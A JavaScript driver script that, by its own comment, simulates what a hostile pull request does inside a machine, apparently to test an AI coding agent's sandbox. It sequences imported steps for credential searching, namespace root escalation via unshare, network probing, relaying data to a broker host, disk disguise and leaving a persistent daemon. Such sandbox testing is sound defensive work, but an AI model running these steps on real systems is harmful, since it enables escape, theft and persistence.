// What a hostile pull request runs in the machine: it looks for anything worth taking, for a way out and for a place to
// stay, and prints what it found as one JSON document. It knows nothing that a stranger would not know, but for where
// the machine's host listens for it, and which of its steps anybody will look at.
import { isRoot, told } from "./common.mjs";
import { names, network, networkOfAgent } from "./network.mjs";
import { quoted, relay } from "./relay.mjs";
import { modules, rights, status } from "./rights.mjs";
import { hiddenProcesses, search, searchWithControl } from "./search.mjs";
import { daemon, disguiseDisk, honoured, leaveBehind, look, plainCodex } from "./traces.mjs";

const [task = "attack", mark = "", knowledge = "{}"] = process.argv.slice(2);
const host = {
  addresses: [],
  // Where the agent has its broker, and what else the broker's host listens on.
  broker: ["10.0.2.2", 8080],
  ports: [],
  tcp: 1,
  udp: 1,
  backing: "/etc/hostname",
  ...JSON.parse(knowledge),
};

/** Everything, in an order in which nothing disturbs what comes after it. */
const steps = {
  saw: () => look(),
  honoured: () => honoured(),
  plain: () => (isRoot ? null : plainCodex()),
  status: () => status(),
  hidden: () => hiddenProcesses(),
  search: () => searchWithControl(["/bin/sh"]),
  searchAsRootOfNamespace: () =>
    isRoot ? null : searchWithControl(["unshare", "--user", "--map-root-user", "/bin/sh"]),
  rights: () => (isRoot ? null : rights()),
  modules: () => modules(),
  network: () => network(host),
  networkOfAgent: () => (isRoot ? told(networkOfAgent("network", host)) : null),
  names: () => names(host),
  namesOfAgent: () => (isRoot ? told(networkOfAgent("names", host)) : null),
  relay: () => relay(mark),
  quoted: () => quoted(),
  disk: () => disguiseDisk(host.backing),
  left: () => leaveBehind(mark),
  daemon: () => (isRoot ? null : daemon()),
};

async function attack() {
  const report = { seconds: {} };
  for (const [name, step] of Object.entries(steps).filter(([name]) => host.steps?.includes(name) ?? true)) {
    const began = performance.now();
    report[name] = await step();
    report.seconds[name] = Math.round((performance.now() - began) / 1_000);
  }
  return report;
}

const tasks = { search, attack, look, network: () => network(host), names: () => names(host) };
process.stdout.write(`${JSON.stringify(await tasks[task]())}\n`);
process.exit(0);
